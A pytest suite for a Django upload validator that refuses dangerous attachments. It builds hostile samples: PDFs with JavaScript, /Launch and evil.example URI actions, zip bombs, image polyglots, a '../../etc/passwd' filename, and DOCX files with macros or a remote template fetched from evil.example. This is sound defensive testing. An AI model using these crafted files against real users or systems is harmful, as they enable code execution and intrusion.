"""Attachments are judged by their structure: type, size, zip bombs, polyglots, active content,
server-chosen names."""

import io
import struct
import warnings
import zipfile
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from kejiju import uploads
from tests.hostile.corpus import HTML, OLE, SVG, pdf_document, real_docx, rewrite_parts

PDF_BYTES = pdf_document()
EXE_BYTES = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 200


def image(kind: str = "PNG", size=(120, 80), **options) -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", size, "navy").save(buffer, kind, **options)
    return buffer.getvalue()


PNG_BYTES = image("PNG")
JPEG_BYTES = image("JPEG")


def ooxml(main_part: str, extra: int = 0) -> bytes:
    """A bare zip with the two names an Office package starts with: enough for the checks that
    come before its structure is read (zip bombs, damaged archives)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr(main_part, "<root/>")
        for n in range(extra):
            archive.writestr(f"xl/worksheets/sheet{n}.xml", "")
    return buffer.getvalue()


def docx_bytes(**extra: bytes) -> bytes:
    return real_docx(extra)


def xlsx_bytes(*, with_picture: bool = False) -> bytes:
    from openpyxl import Workbook
    from openpyxl.drawing.image import Image as SheetImage

    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["项目名称", "金额（万元）"])
    sheet.append(["智能控制系统", 120])
    if with_picture:
        sheet.add_image(SheetImage(io.BytesIO(PNG_BYTES)), "D2")
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def part(package: bytes, name: str) -> bytes:
    return zipfile.ZipFile(io.BytesIO(package)).read(name)


def size_bomb_xlsx() -> bytes:
    """A small xlsx whose central directory declares a 4 GB part."""
    data = bytearray(ooxml("xl/workbook.xml"))
    at = data.find(b"PK\x01\x02")
    while at != -1:
        data[at + 24 : at + 28] = struct.pack("<I", 0xFFFFFFF0)  # uncompressed size
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


def upload(name: str, content: bytes):
    return SimpleUploadedFile(name, content, content_type="application/octet-stream")


def refused(content: bytes, name: str = "a.bin", **options) -> ValidationError:
    with pytest.raises(ValidationError) as exc:
        uploads.inspect(upload(name, content), **options)
    return exc.value


@pytest.mark.parametrize(
    "name, content, kind",
    [
        ("a.pdf", PDF_BYTES, "pdf"),
        ("a.png", PNG_BYTES, "png"),
        ("a.jpg", JPEG_BYTES, "jpeg"),
        ("a.docx", docx_bytes(), "docx"),
        ("a.xlsx", xlsx_bytes(), "xlsx"),
        ("misnamed.pdf", PNG_BYTES, "png"),  # the content decides, not the name
    ],
)
def test_allowed_kinds_are_recognised_by_content(name, content, kind):
    assert uploads.inspect(upload(name, content)).kind == kind


def test_renamed_exe_is_refused():
    assert "文件内容不是允许的类型" in refused(EXE_BYTES, "申报书.pdf").messages[0]


def test_size_bomb_xlsx_is_refused():
    assert refused(size_bomb_xlsx(), "财务报表.xlsx").code == "zip_bomb"


def test_xlsx_with_too_many_entries_is_refused():
    bomb = ooxml("xl/workbook.xml", extra=uploads.MAX_ZIP_ENTRIES)
    assert refused(bomb, "a.xlsx").code == "zip_bomb"


def test_a_plain_zip_is_not_ooxml():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("readme.txt", "hello")
    assert refused(buffer.getvalue(), "a.docx").code == "not_ooxml"


def test_damaged_zip_is_refused():
    assert refused(b"PK\x03\x04garbage", "a.xlsx").code == "damaged"


def test_too_large_and_empty_files(settings):
    settings.KEJIJU_MAX_UPLOAD_BYTES = 100
    assert "超过上限" in refused(PDF_BYTES + b"0" * 200, "a.pdf").messages[0]
    refused(b"", "a.pdf")


def test_only_the_kinds_asked_for():
    assert "只接受 PDF" in refused(PNG_BYTES, "a.png", kinds=(uploads.PDF,)).messages[0]


def test_storage_name_is_the_servers_and_display_name_keeps_the_real_extension():
    inspected = uploads.inspect(upload("../../etc/passwd.pdf", PDF_BYTES))
    name = uploads.storage_name("applications", inspected)
    assert name.startswith("applications/") and name.endswith(".pdf")
    assert "passwd" not in name
    assert uploads.clean_display_name("C:\\x\\营业执照.exe", inspected) == "营业执照.pdf"


def test_attachment_field_reports_at_the_field():
    from django import forms

    class Form(forms.Form):
        file = uploads.AttachmentField(label="附件")

    form = Form(data={}, files={"file": upload("a.pdf", EXE_BYTES)})
    assert not form.is_valid()
    assert "文件内容不是允许的类型" in form.errors["file"][0]
    form = Form(data={}, files={"file": upload("a.pdf", b"%PDF-1.7\n" + HTML)})
    assert not form.is_valid()
    assert "不是有效的 PDF" in form.errors["file"][0]
    form = Form(data={}, files={"file": upload("a.pdf", PDF_BYTES)})
    assert form.is_valid()
    assert form.cleaned_data["file"].inspected.kind == "pdf"


# ---- PDF ------------------------------------------------------------------------------------------


def compressed_pdf(**catalog) -> bytes:
    """A PDF 1.7 whose objects, the catalog's entries included, sit in a compressed object
    stream (as WeasyPrint and Acrobat write them): nothing of them shows in the raw bytes."""
    import pydyf

    pdf = pydyf.PDF()
    for key, value in catalog.items():
        pdf.add_object(value)
        pdf.catalog[key] = value.reference
    pdf.add_page(pydyf.Dictionary({"Type": "/Page", "Parent": pdf.pages.reference}))
    buffer = io.BytesIO()
    pdf.write(buffer, version=b"1.7", compress=True)
    return buffer.getvalue()


def encrypted_pdf(user_password: str) -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(PDF_BYTES)))
    writer.encrypt(user_password=user_password, owner_password="owner", algorithm="AES-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def test_pdfs_as_the_portal_and_office_software_write_them_are_accepted():
    from kejiju.pdf import html_to_pdf

    weasyprint = html_to_pdf(
        '<h1>项目申报书</h1><p>详见 <a href="https://kjj.example.cn/">科技局网站</a>。</p>'
    )
    for content in (
        weasyprint,  # compressed object streams, a link annotation with a /URI action
        compressed_pdf(),
        pdf_document(b"/OpenAction[3 0 R/Fit]"),  # opens at a page: no action
        pdf_document(b"/OpenAction<</S/GoTo/D[3 0 R/Fit]>>"),
        encrypted_pdf(""),  # a permissions password only: opens, and is checked
    ):
        assert uploads.inspect(upload("a.pdf", content)).kind == "pdf"


@pytest.mark.parametrize(
    "content, problem",
    [
        (pdf_document(b"/OpenAction 4 0 R", b"<</S/JavaScript/JS(app.alert(1))>>"), "JavaScript"),
        (pdf_document(b"/Names<</JavaScript 4 0 R>>", b"<</Names[(a)5 0 R]>>"), "JavaScript"),
        (pdf_document(b"/OpenAction<</S/J#61vaScript/JS 4 0 R>>", b"(x)"), "JavaScript"),
        (pdf_document(b"/OpenAction<</S/Launch/F(calc.exe)>>"), "/Launch"),
        (pdf_document(b"/OpenAction<</S/URI/URI(http://evil.example/)>>"), "/OpenAction /URI"),
        (pdf_document(b"/AA<</WC<</S/GoTo/D[3 0 R/Fit]>>>>"), "/AA"),
        (pdf_document(b"/Names<</EmbeddedFiles 4 0 R>>", b"<</Names[]>>"), "内嵌文件"),
        (
            pdf_document(b"", b"<</Type/EmbeddedFile/Length 3>>stream\nMZ!\nendstream"),
            "内嵌文件",
        ),
        (pdf_document(b"/AcroForm<</Fields[]/XFA 4 0 R>>", b"[]"), "XFA"),
    ],
    ids=["openaction-js", "names-js", "escaped-name", "launch", "uri-on-open", "aa", "names-ef",
         "orphan-embedded-file", "xfa"],
)  # fmt: skip
def test_pdfs_with_active_content_are_refused(content, problem):
    error = refused(content, "申报书.pdf")
    assert error.code == "pdf_active" and problem in error.messages[0]


def test_javascript_inside_a_compressed_object_stream_is_found():
    import pydyf

    action = pydyf.Dictionary({"S": "/JavaScript", "JS": pydyf.String("app.alert(1)")})
    content = compressed_pdf(OpenAction=action)
    assert b"JavaScript" not in content
    assert refused(content, "a.pdf").code == "pdf_active"


@pytest.mark.parametrize(
    "content",
    [
        b"%PDF-1.7\n" + HTML,
        b"%PDF-1.4\n" + SVG,
        PDF_BYTES[:120],  # cut off before its page tree and cross-reference table
        pdf_document().replace(b"/Type/Catalog/Pages 2 0 R", b"/Type/Catalog/Pages 9 0 R"),
    ],
    ids=["html", "svg", "truncated", "no-pages"],
)
def test_what_only_starts_like_a_pdf_is_refused(content):
    error = refused(content, "a.pdf")
    assert error.code == "pdf_damaged"
    assert "不是有效的 PDF" in error.messages[0]


def test_a_pdf_that_needs_a_password_is_refused():
    error = refused(encrypted_pdf("secret"), "a.pdf")
    assert error.code == "pdf_encrypted" and "密码" in error.messages[0]


def test_pdf_limits(monkeypatch):
    from pypdf import PdfWriter

    writer = PdfWriter()
    for _ in range(3):
        writer.add_blank_page(595, 842)
    three_pages = io.BytesIO()
    writer.write(three_pages)
    monkeypatch.setattr(uploads, "MAX_PDF_PAGES", 2)
    error = refused(three_pages.getvalue(), "a.pdf")
    assert error.code == "pdf_pages" and "共 3 页" in error.messages[0]
    monkeypatch.undo()
    monkeypatch.setattr(uploads, "MAX_PDF_DECODED_BYTES", 10)
    assert refused(compressed_pdf(), "a.pdf").code == "pdf_complex"
    monkeypatch.undo()
    monkeypatch.setattr(uploads, "PDF_CHECK_SECONDS", -1)
    error = refused(PDF_BYTES, "a.pdf")
    assert error.code == "pdf_complex" and "限定时间" in error.messages[0]


# ---- JPEG and PNG ---------------------------------------------------------------------------------


def multi_picture_jpeg() -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    first, second = Image.new("RGB", (64, 48), "navy"), Image.new("RGB", (64, 48), "white")
    first.save(buffer, "MPO", save_all=True, append_images=[second])
    return buffer.getvalue()


def exif_jpeg() -> bytes:
    from PIL import Image

    exif = Image.Exif()
    exif[0x010F] = "Camera"  # Make
    return image("JPEG", exif=exif)


@pytest.mark.parametrize(
    "content, kind",
    [
        (image("JPEG", progressive=True, quality=90), "jpeg"),
        (exif_jpeg(), "jpeg"),
        (multi_picture_jpeg(), "jpeg"),
        (image("PNG", optimize=True), "png"),
        (PNG_BYTES + b"\x00" * 16, "png"),  # zero padding some tools leave
    ],
    ids=["progressive", "exif", "multi-picture", "optimised-png", "zero-padding"],
)
def test_images_as_cameras_and_editors_write_them_are_accepted(content, kind):
    assert uploads.inspect(upload("a", content)).kind == kind


@pytest.mark.parametrize(
    "content, code",
    [
        (b"\x89PNG\r\n\x1a\n" + HTML, "image_damaged"),
        (b"\xff\xd8\xff\xe0" + HTML, "image_damaged"),
        (PNG_BYTES + HTML, "image_trailing"),
        (JPEG_BYTES + HTML, "image_trailing"),
        (JPEG_BYTES + b"PK\x03\x04" + b"\x00" * 40, "image_trailing"),
        (PNG_BYTES[:-30], "image_damaged"),
        (JPEG_BYTES[: len(JPEG_BYTES) // 2], "image_damaged"),
    ],
    ids=["png-magic-html", "jpeg-magic-html", "png-then-html", "jpeg-then-html",
         "jpeg-then-zip", "png-truncated", "jpeg-truncated"],
)  # fmt: skip
def test_broken_images_and_image_polyglots_are_refused(content, code):
    assert refused(content, "照片.png").code == code


def test_an_image_with_a_bad_checksum_is_refused():
    data = bytearray(PNG_BYTES)
    idat = data.find(b"IDAT")
    length = struct.unpack(">I", data[idat - 4 : idat])[0]
    data[idat + 4 + length] ^= 0xFF  # the chunk's CRC
    assert refused(bytes(data), "a.png").code == "image_damaged"


def test_an_image_with_too_many_pixels_is_refused(monkeypatch):
    monkeypatch.setattr(uploads, "MAX_IMAGE_PIXELS", 100 * 79)
    error = refused(PNG_BYTES, "a.png")
    assert error.code == "image_too_large" and "120×80" in error.messages[0]


def test_a_png_declaring_billions_of_pixels_is_refused_before_decoding():
    header = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(kind + data) & 0xFFFFFFFF
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)

    bomb = (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 1024))
        + chunk(b"IEND", b"")
    )
    assert refused(bomb, "a.png").code == "image_too_large"


# ---- DOCX and XLSX --------------------------------------------------------------------------------


def test_office_documents_with_pictures_charts_and_printer_settings_are_accepted():
    with_picture = xlsx_bytes(with_picture=True)
    assert any(
        n.startswith("xl/media/") for n in zipfile.ZipFile(io.BytesIO(with_picture)).namelist()
    )
    for name, content in [
        ("a.xlsx", with_picture),
        ("a.xlsx", rewrite_parts(xlsx_bytes(), {"xl/printerSettings/printerSettings1.bin": b"\0" * 64})),
        ("a.docx", docx_bytes(**{"word/media/image1.png": PNG_BYTES, "word/fonts/font1.odttf": b"\0" * 64})),
        ("a.docx", docx_bytes(**{"word/embeddings/Microsoft_Excel_Worksheet.xlsx": xlsx_bytes()})),
    ]:  # fmt: skip
        assert uploads.inspect(upload(name, content)).kind == name[-4:]


MACRO_DOCX = "application/vnd.ms-word.document.macroEnabled.main+xml"
REMOTE_TEMPLATE = (
    b'<Relationship Id="rIdT" TargetMode="External" Target="http://evil.example/t.dotm" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
)


def docx_with_content_types(change) -> bytes:
    base = docx_bytes()
    return rewrite_parts(base, {"[Content_Types].xml": change(part(base, "[Content_Types].xml"))})


def docx_with_remote_template() -> bytes:
    base = docx_bytes()
    rels = part(base, "word/_rels/document.xml.rels")
    rels = rels.replace(b"</Relationships>", REMOTE_TEMPLATE + b"</Relationships>")
    return rewrite_parts(base, {"word/_rels/document.xml.rels": rels})


@pytest.mark.parametrize(
    "content, code, shown",
    [
        (docx_bytes(**{"evil.html": HTML}), "ooxml_member", "「evil.html」（网页、脚本"),
        (docx_bytes(**{"word/media/image1.svg": SVG}), "ooxml_member", "SVG"),
        (docx_bytes(**{"word/payload.js": b"alert(1)"}), "ooxml_member", "「word/payload.js」"),
        (docx_bytes(**{"word/embeddings/setup.exe": EXE_BYTES}), "ooxml_member", "可执行程序"),
        (docx_bytes(**{"word/vbaProject.bin": OLE}), "ooxml_member", "宏代码"),
        (docx_bytes(**{"word/vbaData.xml": b"<x/>"}), "ooxml_member", "宏代码"),
        (docx_bytes(**{"word/activeX/activeX1.xml": b"<x/>"}), "ooxml_member", "ActiveX"),
        (docx_bytes(**{"word/embeddings/oleObject1.bin": OLE}), "ooxml_member", "OLE"),
        (docx_bytes(**{"word/notes.txt": b"hello"}), "ooxml_member", "不属于该格式的文件"),
        (docx_bytes(**{"word/../../evil.xml": b"<x/>"}), "ooxml_member", "路径异常"),
        (
            docx_bytes(**{"word/embeddings/Microsoft_Excel_Worksheet.xlsx": rewrite_parts(
                xlsx_bytes(), {"xl/vbaProject.bin": OLE})}),
            "ooxml_member",
            "嵌入的文档「word/embeddings/Microsoft_Excel_Worksheet.xlsx」中含有不允许的内容",
        ),
        (
            docx_with_content_types(lambda ct: ct.replace(
                b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                MACRO_DOCX.encode())),
            "ooxml_macro",
            "启用了宏",
        ),
        (
            docx_with_content_types(lambda ct: ct.replace(b"/word/document.xml", b"/word/other.xml")),
            "not_ooxml",
            "没有声明为 Word（DOCX）的内容类型",
        ),
        (
            docx_with_content_types(lambda ct: b'<!DOCTYPE t [<!ENTITY x "x">]>' + ct.split(b"?>", 1)[1]),
            "not_ooxml",
            "[Content_Types].xml",
        ),
        (docx_with_remote_template(), "ooxml_external", "http://evil.example/t.dotm"),
    ],
    ids=["html", "svg", "js", "exe", "vba-project", "vba-data", "activex", "ole-object",
         "unknown", "traversal", "nested-macro", "docm-content-type", "main-part-undeclared",
         "dtd", "remote-template"],
)  # fmt: skip
def test_word_documents_carrying_what_word_documents_do_not_hold_are_refused(content, code, shown):
    error = refused(content, "申报书.docx")
    assert error.code == code and shown in error.messages[0]
    assert error.messages[0].startswith("Word（DOCX）文档")


def test_excel_workbooks_with_macros_are_refused():
    macro = rewrite_parts(xlsx_bytes(), {"xl/vbaProject.bin": OLE})
    assert "「xl/vbaProject.bin」（宏代码）" in refused(macro, "a.xlsx").messages[0]
    base = xlsx_bytes()
    content_types = part(base, "[Content_Types].xml").replace(
        b"spreadsheetml.sheet.main+xml",
        b'spreadsheetml.sheet.main+xml"/><Default '
        b'Extension="bin" ContentType="application/vnd.ms-office.vbaProject',
    )
    xlsm = rewrite_parts(base, {"[Content_Types].xml": content_types})
    assert refused(xlsm, "a.xlsx").code == "ooxml_macro"


def test_a_package_with_two_members_of_one_name_is_refused():
    buffer = io.BytesIO()
    base = zipfile.ZipFile(io.BytesIO(docx_bytes()))
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns of the duplicate it is told to write
        with zipfile.ZipFile(buffer, "w") as archive:
            for name in base.namelist():
                archive.writestr(name, base.read(name))
            archive.writestr("word/document.xml", b"<other/>")
    assert "重名" in refused(buffer.getvalue(), "a.docx").messages[0]
